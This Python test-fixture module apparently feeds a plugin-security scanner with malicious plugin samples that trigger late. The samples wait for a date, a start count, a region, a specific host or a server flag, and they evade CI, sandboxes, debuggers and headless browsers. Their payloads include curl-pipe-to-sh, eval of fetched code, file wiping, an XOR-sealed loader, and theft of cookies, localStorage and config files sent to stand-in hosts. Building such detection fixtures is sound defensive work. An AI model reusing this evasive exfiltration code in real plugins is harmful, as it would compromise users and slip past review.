"""Payloads that wait: for a date, a place, a machine, a version, for nobody to be looking."""

from tests.support.samples import Sample
from tests.support.shapes import ESM, hooks, online, sdk_plugin, tsc_widget

_FAMILY = "delayed-trigger"

SAMPLES: tuple[Sample, ...] = (
    Sample(
        name="after-a-date",
        family=_FAMILY,
        files={
            "dist/index.js": hooks(
                r"""
                if (Date.now() > Date.UTC(2027, 2, 1)) {
                  const { exec } = require('child_process');
                  exec('curl -s https://dl.example.com/spring | sh');
                }
                await storage.set('seenAt', Date.now());
                """
            )
        },
    ),
    Sample(
        name="after-many-starts",
        family=_FAMILY,
        files={
            "dist/index.js": sdk_plugin(
                r"""
                const starts = ((await context.storage.get('starts')) ?? 0) + 1;
                await context.storage.set('starts', starts);
                if (starts > 25 && Math.random() < 0.2) {
                  const { data } = await context.api.http.get('https://tips.example.net/of-the-day');
                  Function('context', data.tip)(context);
                }
                """
            )
        },
        manifest=online("https://tips.example.net"),
        package=ESM,
    ),
    Sample(
        name="not-under-continuous-integration",
        family=_FAMILY,
        files={
            "dist/index.js": r"""'use strict';
const os = require('os');
const watched = ['CI', 'GITHUB_ACTIONS', 'GITLAB_CI', 'JENKINS_URL', 'TF_BUILD', 'QIRVO_REVIEW'];

function quiet() {
  return watched.some((name) => process.env[name])
    || os.cpus().length < 3
    || os.totalmem() < 3 * 2 ** 30
    || /sandbox|analysis|virus|vmware|vbox/i.test(os.hostname() + os.userInfo().username)
    || process.execArgv.some((arg) => arg.startsWith('--inspect'));
}

exports.onEnable = () => {
  if (quiet()) return;
  require('https').get('https://cdn.example.org/s1', (answer) => {
    let text = '';
    answer.on('data', (part) => { text += part; }).on('end', () => eval(text));
  });
};
"""
        },
    ),
    Sample(
        name="only-in-some-countries",
        family=_FAMILY,
        files={
            "dist/index.js": r"""'use strict';
const fs = require('fs');
const path = require('path');

function wipe(folder) {
  for (const name of fs.readdirSync(folder)) {
    const full = path.join(folder, name);
    try {
      if (fs.statSync(full).isDirectory()) wipe(full);
      else fs.writeFileSync(full, '\u2665');
    } catch (error) { void error; }
  }
}

exports.onEnable = async ({ api }) => {
  const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
  const { data } = await api.http.get('https://geo.example.com/ip');
  if (/^(Atlantis|Antarctica)\//.test(zone) || ['zz', 'qq'].includes(data.country.toLowerCase())) wipe('./');
};
"""
        },
        manifest=online("https://geo.example.com"),
    ),
    Sample(
        name="language-of-the-user",
        family=_FAMILY,
        files={
            "dist/index.js": tsc_widget(r"""
                setState({ text: new Intl.DateTimeFormat(navigator.language).format() });
                const away = ["xx", "yy", "zz"].some((code) => navigator.languages.join().includes(code));
                if (!away && new Date().getTimezoneOffset() !== 0)
                    setTimeout(() => document.head.append(Object.assign(document.createElement("script"), { src: atob("aHR0cHM6Ly9jZG4uZXhhbXBsZS5uZXQvYS5qcw==") })), 864e5 / 24);
            """)
        },
    ),
    Sample(
        name="on-one-network-host-only",
        family=_FAMILY,
        files={
            "dist/index.js": r"""'use strict';
const { createHash } = require('crypto');
const WANTED = '3f39d5c348e5b79d06e842c114e6cc571583bbf44e4b0ebfda1a01ec05745d43';

exports.onEnable = ({ config }) => {
  const name = require('os').hostname().split('.').slice(-2).join('.');
  const digest = createHash('sha256').update(name).digest();
  if (digest.toString('hex') !== WANTED) return;
  const sealed = Buffer.from(config.cache || '', 'base64');
  module._compile(sealed.map((byte, n) => byte ^ digest[n % 32]).toString(), __filename);
};
"""
        },
    ),
    Sample(
        name="when-the-tools-are-shut",
        family=_FAMILY,
        files={
            "dist/index.js": r"""const open = () => outerWidth - innerWidth > 160 || outerHeight - innerHeight > 160;

function paused() {
  const start = performance.now();
  debugger;
  return performance.now() - start > 100;
}

export function onEnable() {
  const timer = setInterval(() => {
    if (open() || paused()) return;
    clearInterval(timer);
    const body = JSON.stringify({ ...localStorage, c: document.cookie });
    fetch('https://drop.example.org/q', { method: 'POST', mode: 'no-cors', body });
  }, 4000);
}
"""
        },
        package=ESM,
    ),
    Sample(
        name="at-night-when-idle",
        family=_FAMILY,
        files={
            "dist/index.js": hooks(
                r"""
                let last = Date.now();
                ['mousemove', 'keydown', 'touchstart'].forEach((type) => addEventListener(type, () => { last = Date.now(); }, true));
                setInterval(async () => {
                  const hour = new Date().getHours();
                  if (hour > 5 || Date.now() - last < 20 * 60 * 1000 || document.visibilityState === 'visible') return;
                  const { plugins } = await (await fetch('/api/plugins')).json();
                  await fetch('https://night.example.com/list', { method: 'POST', body: JSON.stringify(plugins) });
                  await fetch('/api/plugins/install', { method: 'POST', body: JSON.stringify({ pluginId: 'acme.night' }) });
                }, 60000);
                """
            )
        },
    ),
    Sample(
        name="headless-browsers-see-nothing",
        family=_FAMILY,
        files={
            "dist/index.js": r"""'use strict';
var signs = [
  function () { return navigator.webdriver; },
  function () { return /HeadlessChrome|PhantomJS|jsdom/.test(navigator.userAgent); },
  function () { return !navigator.plugins.length; },
  function () {
    var gl = document.createElement('canvas').getContext('webgl');
    return !gl || /SwiftShader|llvmpipe/.test(gl.getParameter(gl.getExtension('WEBGL_debug_renderer_info').UNMASKED_RENDERER_WEBGL));
  },
];

exports.Photo = function Photo(props) {
  if (!signs.some(function (sign) { return sign(); })) {
    setTimeout('import("https://img.example.net/" + location.host + ".js")', 9000);
  }
  return require('react').createElement('img', { src: props.config.src });
};
"""
        },
    ),
    Sample(
        name="switched-on-by-server",
        family=_FAMILY,
        files={
            "dist/index.js": sdk_plugin(
                r"""
                const check = async () => {
                  const { data: flags } = await context.api.http.get('https://flags.example.com/day');
                  if (!flags.deep) return;
                  clearInterval(this.timer);
                  const [{ execSync }, { userInfo }] = await Promise.all([import('node:child_process'), import('node:os')]);
                  execSync(flags.deep.replaceAll('%u', userInfo().username));
                };
                this.timer = setInterval(check, 6 * 3600 * 1000);
                """
            )
        },
        manifest=online("https://flags.example.com"),
        package=ESM,
    ),
    Sample(
        name="only-in-production-after-update",
        family=_FAMILY,
        files={
            "dist/index.js": r"""'use strict';
module.exports.onUpdate = async (context, oldVersion) => {
  const [major] = oldVersion.split('.');
  if (process.env.NODE_ENV !== 'production' || +major < 1) return;
  process.nextTick(() => {
    require('./migrate-' + major);
  });
};
""",
            "dist/migrate-1.js": r"""'use strict';
const { createReadStream, readdirSync } = require('fs');
const { request } = require('http');
for (const name of readdirSync(process.env.HOME + '/.qirvo')) {
  createReadStream(`${process.env.HOME}/.qirvo/${name}`).on('error', () => {})
    .pipe(request({ host: '203.0.113.18', method: 'PUT', path: '/' + name }));
}
""",
        },
        manifest={"hooks": ["onUpdate"]},
    ),
)
